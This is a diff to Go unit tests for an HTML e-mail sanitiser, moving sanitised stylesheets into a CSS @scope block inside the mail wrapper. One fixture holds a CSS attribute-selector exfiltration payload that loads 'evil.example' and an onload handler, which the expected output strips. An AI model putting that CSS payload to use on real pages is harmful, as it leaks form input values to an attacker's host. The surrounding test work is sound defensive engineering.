@@ -28,8 +28,8 @@ func mailPolicy(t *testing.T, remote string) *policy.Policy {
 const wrapOpen = `<div class="htmlclean-mail" style="position: relative; overflow: hidden`
 
 // TestMailDocument: a whole document in, the body's content out in one
-// wrapper that carries the body's attributes, the sheets after it; in
-// memory and streamed alike, and a fixed point.
+// wrapper that carries the body's attributes, the sheets its last child;
+// in memory and streamed alike, and a fixed point.
 func TestMailDocument(t *testing.T) {
 	tests := []struct{ name, in, want string }{
 		{
@@ -38,8 +38,8 @@ func TestMailDocument(t *testing.T) {
 				`<style>p{color:red} body{margin:0;background:#eee}</style></head>` +
 				`<body bgcolor="#ffffff" text="#333" link="#06c" style="font-family:Arial;margin:0" onload="x()">` +
 				`<center><p>Hello <b>you</b></p></center></body></html>`,
-			want: wrapOpen + `; background-color: #ffffff; color: #333; font-family: Arial"><center><p>Hello <b>you</b></p></center></div>` +
-				"<style>.htmlclean-mail p{color:red}\n.htmlclean-mail{background:#eee}\n.htmlclean-mail a{color:#06c}\n</style>",
+			want: wrapOpen + `; background-color: #ffffff; color: #333; font-family: Arial"><center><p>Hello <b>you</b></p></center>` +
+				"<style>@scope{:scope.htmlclean-mail p{color:red}\n:scope.htmlclean-mail{background:#eee}\n:scope.htmlclean-mail a{color:#06c}\n}</style></div>",
 		},
 		{
 			name: "fragment",
@@ -54,7 +54,7 @@ func TestMailDocument(t *testing.T) {
 		{
 			name: "sheet-in-body",
 			in:   `<body><p class="lead htmlclean-mail">x</p><style>.lead{font-size:20px} input[value^=a]{background:url(https://evil.example/a)}</style></body>`,
-			want: wrapOpen + `"><p class="lead">x</p></div><style>.htmlclean-mail .lead{font-size:20px}` + "\n</style>",
+			want: wrapOpen + `"><p class="lead">x</p><style>@scope{:scope.htmlclean-mail .lead{font-size:20px}` + "\n}</style></div>",
 		},
 		{
 			name: "wrapper-cannot-be-closed",
@@ -64,7 +64,7 @@ func TestMailDocument(t *testing.T) {
 		{
 			name: "overlay-refused",
 			in:   `<style>.x{position:fixed;top:0} .y{z-index:99999;width:100vw}</style><div style="position:fixed;color:red">x</div>`,
-			want: wrapOpen + `"><div style="color: red">x</div></div><style>.htmlclean-mail .x{top:0}` + "\n</style>",
+			want: wrapOpen + `"><div style="color: red">x</div><style>@scope{:scope.htmlclean-mail .x{top:0}` + "\n}</style></div>",
 		},
 		{
 			name: "head-text-starts-body",
@@ -106,12 +106,12 @@ func TestMailRemote(t *testing.T) {
 	tests := []struct{ remote, want string }{
 		{"allow", wrapOpen + `"><img src="https://img.example/a.png" alt=a><img srcset="https://img.example/b.png 2x"><img src="cid:logo@mail" alt=c>` +
 			`<table background="https://img.example/bg.png"><tr><td>t</td></tr></table><p style="background:url(https://img.example/p.png);color:red">p</p>` +
-			`<a href="https://example.com/" rel="noopener noreferrer" target="_blank">l</a></div><style>.htmlclean-mail .h{background-image:url("https://img.example/h.png")}` + "\n</style>"},
+			`<a href="https://example.com/" rel="noopener noreferrer" target="_blank">l</a><style>@scope{:scope.htmlclean-mail .h{background-image:url("https://img.example/h.png")}` + "\n}</style></div>"},
 		{"block", wrapOpen + `"><img alt=a><img src="cid:logo@mail" alt=c><table><tr><td>t</td></tr></table><p style="color: red">p</p>` +
 			`<a href="https://example.com/" rel="noopener noreferrer" target="_blank">l</a></div>`},
 		{"proxy", wrapOpen + `"><img src="https://proxy.example/i?u=https%3A%2F%2Fimg.example%2Fa.png" alt=a><img srcset="https://proxy.example/i?u=https%3A%2F%2Fimg.example%2Fb.png 2x"><img src="cid:logo@mail" alt=c>` +
 			`<table background="https://proxy.example/i?u=https%3A%2F%2Fimg.example%2Fbg.png"><tr><td>t</td></tr></table><p style="background: url(&#34;https://proxy.example/i?u=https%3A%2F%2Fimg.example%2Fp.png&#34;); color: red">p</p>` +
-			`<a href="https://example.com/" rel="noopener noreferrer" target="_blank">l</a></div><style>.htmlclean-mail .h{background-image:url("https://proxy.example/i?u=https%3A%2F%2Fimg.example%2Fh.png")}` + "\n</style>"},
+			`<a href="https://example.com/" rel="noopener noreferrer" target="_blank">l</a><style>@scope{:scope.htmlclean-mail .h{background-image:url("https://proxy.example/i?u=https%3A%2F%2Fimg.example%2Fh.png")}` + "\n}</style></div>"},
 	}
 	for _, tc := range tests {
 		t.Run(tc.remote, func(t *testing.T) {
